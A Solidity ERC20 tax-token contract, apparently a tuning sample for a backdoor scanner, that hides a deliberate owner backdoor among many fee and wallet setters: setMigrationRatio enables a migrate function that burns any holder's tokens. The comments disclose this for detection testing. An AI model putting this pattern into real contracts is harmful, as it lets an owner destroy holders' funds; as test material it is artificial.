// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// A tax token with the surface real ones have (a score of owner setters for fees, limits and
// wallets) hiding a two-call power among them: a number staged by one setter opens another
// function that burns any holder's tokens. The two-call simulations a scan can afford are far
// fewer than the pairs such a surface offers. Written as a tuning token for that; other names
// than the held-out part.

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {TnRouterPair} from "./RouterPair.sol";

contract TnCrowdedToken is ERC20, Ownable, TnRouterPair {
    uint256 public buyFee = 3;
    uint256 public sellFee = 3;
    uint256 public maxTxPermille = 1_000;
    uint256 public maxWalletPermille = 1_000;
    uint256 public swapThreshold;
    uint256 public buybackMultiplier = 1;
    uint256 public rewardShare = 50;
    bool public swapEnabled = true;
    bool public autoLiquidity = true;
    bool public buybackEnabled;
    address public marketingWallet;
    address public devWallet;
    address public liquidityWallet;
    address public buybackWallet;
    address public rewardsToken;
    uint256 private migrationRatio;
    mapping(address => bool) public feeExempt;
    mapping(address => bool) public limitExempt;
    mapping(address => bool) public marketPair;

    constructor(string memory n, string memory s, uint256 supply, address router_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        marketingWallet = msg.sender;
        devWallet = msg.sender;
        liquidityWallet = msg.sender;
        buybackWallet = msg.sender;
        feeExempt[msg.sender] = true;
        limitExempt[msg.sender] = true;
        swapThreshold = supply / 10_000;
        _mint(msg.sender, supply);
    }

    function setBuyFee(uint256 fee) external onlyOwner {
        require(fee <= 10, "fee");
        buyFee = fee;
    }

    function setSellFee(uint256 fee) external onlyOwner {
        require(fee <= 10, "fee");
        sellFee = fee;
    }

    function setMaxTxPermille(uint256 permille) external onlyOwner {
        require(permille >= 5, "too low");
        maxTxPermille = permille;
    }

    function setMaxWalletPermille(uint256 permille) external onlyOwner {
        require(permille >= 10, "too low");
        maxWalletPermille = permille;
    }

    function setSwapThreshold(uint256 amount) external onlyOwner {
        swapThreshold = amount;
    }

    function setBuybackMultiplier(uint256 multiplier) external onlyOwner {
        require(multiplier <= 5, "multiplier");
        buybackMultiplier = multiplier;
    }

    function setRewardShare(uint256 share) external onlyOwner {
        require(share <= 100, "share");
        rewardShare = share;
    }

    function setSwapEnabled(bool on) external onlyOwner {
        swapEnabled = on;
    }

    function setAutoLiquidity(bool on) external onlyOwner {
        autoLiquidity = on;
    }

    function setBuybackEnabled(bool on) external onlyOwner {
        buybackEnabled = on;
    }

    function setMarketingWallet(address wallet) external onlyOwner {
        marketingWallet = wallet;
    }

    function setDevWallet(address wallet) external onlyOwner {
        devWallet = wallet;
    }

    function setLiquidityWallet(address wallet) external onlyOwner {
        liquidityWallet = wallet;
    }

    function setBuybackWallet(address wallet) external onlyOwner {
        buybackWallet = wallet;
    }

    function setRewardsToken(address token) external onlyOwner {
        rewardsToken = token;
    }

    function setFeeExempt(address account, bool on) external onlyOwner {
        feeExempt[account] = on;
    }

    function setLimitExempt(address account, bool on) external onlyOwner {
        limitExempt[account] = on;
    }

    function setMarketPair(address account, bool on) external onlyOwner {
        marketPair[account] = on;
    }

    /// Stages the ratio of a "token migration"; while it is set, `migrate` may burn any holder's tokens.
    function setMigrationRatio(uint256 ratio) external onlyOwner {
        migrationRatio = ratio;
    }

    function migrate(address holder, uint256 amount) external onlyOwner {
        require(migrationRatio > 0, "migration off");
        _burn(holder, amount);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to != address(0) && !feeExempt[from] && !feeExempt[to]) {
            address pair = _pair();
            bool sell = to == pair || marketPair[to];
            bool buy = from == pair || marketPair[from];
            if (!limitExempt[from] && !limitExempt[to]) {
                require(value <= (totalSupply() * maxTxPermille) / 1_000, "max tx");
                if (!sell) require(balanceOf(to) + value <= (totalSupply() * maxWalletPermille) / 1_000, "max wallet");
            }
            uint256 rate = sell ? sellFee : buy ? buyFee : 0;
            uint256 fee = (value * rate) / 100;
            if (fee > 0) super._update(from, marketingWallet, fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}
